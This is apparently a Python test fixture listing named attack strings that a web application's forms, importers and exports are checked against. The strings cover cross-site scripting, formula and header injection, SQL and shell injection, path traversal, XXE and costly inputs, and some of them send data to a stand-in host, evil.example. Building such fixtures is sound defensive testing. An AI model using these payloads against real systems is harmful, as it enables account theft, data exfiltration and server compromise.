"""Named attack strings that run through every public form, importer and export.

`ATTACKS` maps a name to the string. None of them may run, break out of its cell, line or attribute, or
cost more than a moment.
"""

TAB, CR, LF, NUL = "\t", "\r", "\n", "\x00"

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with slash": "<script/x>alert(1)</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script unclosed": "<script>alert(1)",
    "script split in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script as entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script as double entities": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "script with a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script in full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "script behind a quote": '"><script>alert(1)</script>',
    "script behind a textarea": "</textarea><script>alert(1)</script>",
    "script behind a title": "</title><script>alert(1)</script>",
    "script in a comment": "<!--><script>alert(1)</script>-->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "script in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

HANDLERS = {
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, slashes": "<img/src=x/onerror=alert(1)//",
    "img with a broken quote": '<img """><script>alert(1)</script>">',
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "video source": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "handler on an allowed tag": "<p onclick=alert(1)>text</p>",
    "handler on a link": "<a href=https://example.org/ onmouseover=alert(1)>x</a>",
    "handler on a link, no space": '<a href="https://example.org/"onmouseover="alert(1)">x</a>',
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element": "<style>@import 'javascript:alert(1)';</style>",
    "identity clobbering": "<a id=forms name=submit class=button href=https://example.org/>x</a>",
    "attribute breakout": '" autofocus onfocus=alert(1) x="',
    "attribute breakout, single": "' onmouseover='alert(1)",
}

CONTAINERS = {
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg style mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mathml link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe javascript": "<iframe src=javascript:alert(1)></iframe>",
    "object data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "embed": "<embed src=//evil.example/x.swf>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": "<base href=//evil.example/>",
    "link stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "form to elsewhere": "<form action=//evil.example/><input name=password><button>Sign in</button></form>",
    "button formaction": "<button formaction=javascript:alert(1)>x</button>",
    "raw text": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "table foster parenting": "<table><b><td></b><script>alert(1)</script><a href=javascript:alert(1)>x",
}

ADDRESSES = {
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript as entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;a()">x</a>',
    "javascript as long entities": '<a href="&#x0000006A&#x0000061vascript&colon;alert(1)">x</a>',
    "javascript with a tab": f'<a href="java{TAB}script:alert(1)">x</a>',
    "javascript with an encoded newline": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript behind a control": '<a href=" &#14; javascript:alert(1)">x</a>',
    "javascript with a null": f'<a href="java{NUL}script:alert(1)">x</a>',
    "javascript mixed case": '<a href="jAvAsCrIpT:alert(1)">x</a>',
    "javascript bare": "javascript:alert(document.cookie)",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "protocol-relative": '<a href="//evil.example/">x</a>',
    "backslashes": '<a href="https:\\\\evil.example\\">x</a>',
    "credentials": '<a href="https://intgovforum.org@evil.example/">x</a>',
    "credentials bare": "https://intgovforum.org:443@evil.example/",
    "quote in a bare address": 'https://example.org/"onmouseover="alert(1)',
    "entity in a bare address": "https://example.org/&quot;onmouseover=&quot;alert(1)",
    "file": "file:///etc/passwd",
    "metadata service": "http://169.254.169.254/latest/meta-data/",
    "mailto with headers": '<a href="mailto:a@example.org?bcc=everyone%0d%0aSubject:x">x</a>',
}

LINES = {
    "mail header": f"Meeting{CR}{LF}Bcc: everyone@example.org",
    "mail header, line feed": f"Meeting{LF}{LF}<html>body",
    "mail header, encoded": "Meeting%0d%0aBcc: everyone@example.org",
    "response splitting": f"en{CR}{LF}Set-Cookie: session=1",
    "iCalendar event": f"Call{CR}{LF}END:VEVENT{CR}{LF}BEGIN:VEVENT{CR}{LF}SUMMARY:Ghost",
    "iCalendar, folded": f"Call{CR}{LF} ATTACH:file:///etc/passwd",
    "iCalendar, escaped": "Call\\nEND:VEVENT;X=1,2",
    "line separators": "Call\u2028SUMMARY:Ghost\u2029END\x85NEXT\x0bVT\x0cFF",
    "log forging": f"ok{LF}2021-05-13 11:00 INFO signed in: admin",
    "terminal escape": "\x1b[2J\x1b[31mdeleted\x1b[0m",
}

FORMULAS = {
    "formula": "=1+1",
    "formula command": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": f"{TAB}=1+1",
    "formula behind a return": f"{CR}=1+1",
    "formula behind spaces": "   =1+1",
    "formula behind an unseen mark": "\ufeff=1+1",
    "formula full-width": "\uff1d1+1",
    "formula link": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "formula in a second cell": 'x",=1+1,"',
    "formula in a second row": f"x{LF}=1+1",
}

UNICODE = {
    "null": f"before{NUL}after",
    "text direction override": "invoice\u202efdp.exe",
    "text direction isolate": "a\u2066b\u2069c\u2067d",
    "half characters": "a\ud800b\udfffc",
    "non-characters": "a\ufffeb\uffffc\ufdd0d",
    "tag characters": "a\U000e0041\U000e0042\U000e007fb",
    "stacked marks": "Z" + "\u0351\u036b\u0343" * 40,
    "direction override as an entity": "a&#x202e;b&#0;c&#xd800;d",
    "zero-width": "pass\u200bword\u2060",
    "combining over a bracket": "<b>\u0338x</b>\u0338",
    "expanding": "\ufdfa\ufb2c\u0390" * 20,
    "look-alike host": "https://\u0456ntgovforum.org/ https://evil\uff0eexample\uff0f.org/",
    "dotless case folding": "\u0130\u0131\u017f\u212a <\u017fcript>alert(1)</\u017fcript>",
}

SERVER_SIDE = {
    "template expression": "{{ 7*7 }}{{ settings.SECRET_KEY }}",
    "template tag": "{% load static %}{% include '/etc/passwd' %}",
    "template other": "${7*7} #{7*7} <%= 7*7 %>",
    "format string": "{0.__class__.__mro__} %s %n %(x)s",
    "sql quote": "' OR '1'='1' --",
    "sql statement": "x'); DROP TABLE coalitions_coalitionpage; --",
    "sql wildcard": "%_%' ESCAPE '!",
    "search operators": '"unclosed AND (a OR NOT b* NEAR/2 c:',
    "shell": "; cat /etc/passwd | mail x & $(id) `id`",
    "path traversal": "../../../../etc/passwd",
    "path traversal, backslashes": "..\\..\\windows\\win.ini",
    "path traversal, encoded": "%2e%2e%2fetc%2fpasswd%00.pdf",
    "file name": "report.pdf\x00.html",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "server-side include": '<!--#exec cmd="id" -->',
}

COSTLY = {
    "nested tags": "<b>" * 20_000,
    "nested blocks": "<div>" * 20_000,
    "nested quotes": "<blockquote>" * 8_000 + "x",
    "nested behind comments": "<div><!--</div>-->" * 10_000,
    "misnested": "<p><b>" * 10_000,
    "many attributes": "<a " + " ".join(f"x{i}=1" for i in range(18_000)) + ">x</a>",
    "many brackets": "<" * 200_000,
    "many ampersands": "&" * 200_000,
    "many comments": "<!--" * 50_000,
    "many addresses": "www.a.bc " * 2_200,
    "many closing brackets": "https://a.bc/" + ")" * 19_000,
    "overlong": "a" * 1_000_000,
    "overlong word": "a" * 19_999,
}

ATTACKS: dict[str, str] = (
    SCRIPTS | HANDLERS | CONTAINERS | ADDRESSES | LINES | FORMULAS | UNICODE | SERVER_SIDE | COSTLY
)
